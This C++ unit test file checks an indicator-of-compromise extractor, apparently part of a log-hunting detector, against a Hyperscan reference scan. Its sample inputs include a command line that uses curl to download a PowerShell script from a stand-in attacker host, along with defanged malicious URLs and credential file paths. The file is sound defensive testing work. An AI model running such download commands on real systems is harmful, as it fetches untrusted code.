// The extractor finds its triggers with byte compares (IocExtractor::
// ScanBytes) and the defanged spellings with a small Hyperscan database; it
// must report exactly what the reference scan (every trigger pattern in one
// Hyperscan database, IocOptions::reference_scan) reports: the same types,
// values, offsets and classes, in the same order, in plain and defanged
// mode. Without paths, the other indicators are the same as with them.
// Checked on lines written for the edges of the byte scan (16-byte chunks,
// hex runs around 32 digits, IPv6 colons, backslashes and slashes) and on
// generated lines.
#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

#include "detectors/ioc/ioc_extractor.h"
#include "tests/detectors/ioc_scan_util.h"

namespace loghunt {
namespace {

// The indicators of `text` (without paths when `described_paths` is false).
std::vector<std::string> Found(std::string_view text, IocOptions options, bool described_paths) {
  IocExtractor extractor(IocPatterns::Default(), options);
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract(text, arena, &iocs);
  return Describe(iocs, described_paths);
}

std::vector<std::string> Network(std::string_view text, bool paths, bool defanged = false) {
  return Found(text, {.defanged = defanged, .paths = paths}, false);
}

void ExpectSameAsHyperscan(std::string_view text) {
  for (bool defanged : {false, true}) {
    for (bool paths : {false, true}) {
      EXPECT_EQ(Found(text, {.defanged = defanged, .paths = paths}, paths),
                Found(text, {.defanged = defanged, .paths = paths, .reference_scan = true}, paths))
          << "text: " << text << " defanged " << defanged << " paths " << paths;
    }
    EXPECT_EQ(Network(text, false, defanged), Network(text, true, defanged)) << "text: " << text;
  }
}

TEST(IocNetworkScan, FindsEachTypeWithoutPaths) {
  const std::string text =
      "C:\\Windows\\cmd.exe /c curl http://evil.example.com/x.ps1 -o C:\\t\\a.ps1 && ping "
      "10.1.2.3 && nslookup update.microsoft.com 2001:db8::7 "
      "d41d8cd98f00b204e9800998ecf8427e";
  const std::vector<std::string> expected = {"url http://evil.example.com/x.ps1 @27 ",
                                             "dns evil.example.com @34 ",
                                             "ipv4 10.1.2.3 @79 private",
                                             "dns update.microsoft.com @100 ",
                                             "ipv6 2001:db8::7 @121 reserved",
                                             "md5 d41d8cd98f00b204e9800998ecf8427e @133 "};
  EXPECT_EQ(Network(text, false), expected);
  ExpectSameAsHyperscan(text);
}

TEST(IocNetworkScan, HexRunsAroundThirtyTwoDigitsAtEveryChunkOffset) {
  for (size_t pad = 0; pad < 40; ++pad) {
    for (size_t digits : {31, 32, 33, 40, 47, 48, 63, 64, 65, 128, 129}) {
      std::string hex;
      for (size_t i = 0; i < digits; ++i) hex += "0123456789abcdefABCDEF"[i % 22];
      ExpectSameAsHyperscan(std::string(pad, 'x') + hex);
      ExpectSameAsHyperscan(std::string(pad, ' ') + hex + " tail");
      ExpectSameAsHyperscan(std::string(pad, 'g') + hex + "." + hex + "\xc3\xa9" + hex);
    }
  }
}

TEST(IocNetworkScan, ColonsDotsAndSchemesAtEveryChunkOffset) {
  const char* kLines[] = {
      "fe80::1%eth0 and ::1 and 2001:db8:0:0:1:0:0:1 and a:b:c and 1:12345:",
      "ip6:2001:db8::1 ::ffff:10.0.0.1 12:34:56:78:9a:bc abcd::",
      "http://10.0.0.1:8080/x https://[2001:db8::1]/a ftp://a.b.com ldap://x",
      "evil.com/a.php a.b. .a.b a..b -.x x.- 1.2.3.4.5 300.1.1.1 1.2.3.4/24 192.168.1.1/admin",
      "user@mail.example.org first.last@example.co.uk x@y",
      "\xe2\x80\x8b"
      "example.com\xc2\xa0http://example.net/\xe3\x80\x80z",
      // '|' ends a Windows path (whose folders may hold blanks).
      "C:\\Windows\\x.exe|\\\\srv\\share\\a|\\\\\\x|.\\run.bat|..\\..\\b|%APPDATA%\\c.dll|"
      "%~dp0\\d|e:\\|1:\\|\\\\$admin|\\\\-x|\\\\.\\pipe\\p",
      "/usr/bin/id ~/.ssh/authorized_keys ./a/b ../x/y //host/share / /c /a/ "
      "/~x /_y /-z /.w x=/etc/passwd,/tmp/a;/var/b|/opt/c",
      "hxxp[:]//evil[.]com/a/b.exe 10[.]0[.]0[.]1 user[at]evil(dot)com C[:]\\x "
      "http__evil.com/x http:\\\\evil.com\\x [://]evil.com",
  };
  for (const char* line : kLines) {
    for (size_t pad = 0; pad < 33; ++pad) ExpectSameAsHyperscan(std::string(pad, 'a') + line);
  }
}

TEST(IocNetworkScan, GeneratedLinesMatchTheHyperscanTriggers) {
  std::mt19937 rng(7);
  const std::string alphabet = "0123456789abcdefABCDEF.:/-_ \\@%gxzqCom\t[]()~$\x80\xff";
  const char* kWords[] = {"http://",  "example.com",
                          "10.0.0.1", "::",
                          "fe80::",   ".exe",
                          "C:\\",     "\\\\",
                          "/tmp/",    "[.]",
                          "hxxp",     "%TEMP%\\",
                          "[:]//",    "d41d8cd98f00b204e9800998ecf8427e"};
  for (int line = 0; line < 3000; ++line) {
    std::string text;
    const size_t len = rng() % 200;
    while (text.size() < len) {
      if (rng() % 6 == 0) {
        text += kWords[rng() % std::size(kWords)];
      } else {
        text += alphabet[rng() % alphabet.size()];
      }
    }
    ExpectSameAsHyperscan(text);
    if (HasFailure()) return;
  }
}

// The extractor caches the TLD answers of libpsl in 256 slots (TLDs of up to
// 31 letters). One extractor reused over 600 candidates, public and not, short
// and long, twice, so that slots collide and are overwritten, must say what
// a fresh extractor says for each.
TEST(IocNetworkScan, TldCacheAgreesWithFreshExtractors) {
  std::vector<std::string> tlds = {"com",
                                   "exe",
                                   "dll",
                                   "museum",
                                   "travel",
                                   "org",
                                   "windows",
                                   "windowscalculator",
                                   "webaccountprovider",
                                   "photography",
                                   "international",
                                   "xn--p1ai",
                                   "appxmtcan",
                                   "ps1",
                                   "io",
                                   "net"};
  std::mt19937 rng(7);
  while (tlds.size() < 600) {
    std::string t;
    const size_t len = 2 + rng() % 34;  // also past the cached 31 letters
    for (size_t i = 0; i < len; ++i) t += static_cast<char>('a' + rng() % 26);
    tlds.push_back(t);
  }
  IocOptions options;  // the intel detector's: plain mode, no paths
  options.defanged = false;
  options.paths = false;
  IocExtractor reused(IocPatterns::Default(), options);
  size_t domains = 0;
  for (int round = 0; round < 2; ++round) {
    for (const std::string& tld : tlds) {
      const std::string text = "ping host." + tld + " and HOST." + tld;
      Arena arena;
      std::vector<Ioc> iocs;
      reused.Extract(text, arena, &iocs);
      const std::vector<std::string> got = DescribeNonPath(iocs);
      EXPECT_EQ(got, Network(text, false)) << text;
      domains += got.size();
    }
  }
  // The public ones among the named TLDs are found (both spellings, both rounds).
  EXPECT_GE(domains, 2u * 2u * 7u);
}

}  // namespace
}  // namespace loghunt
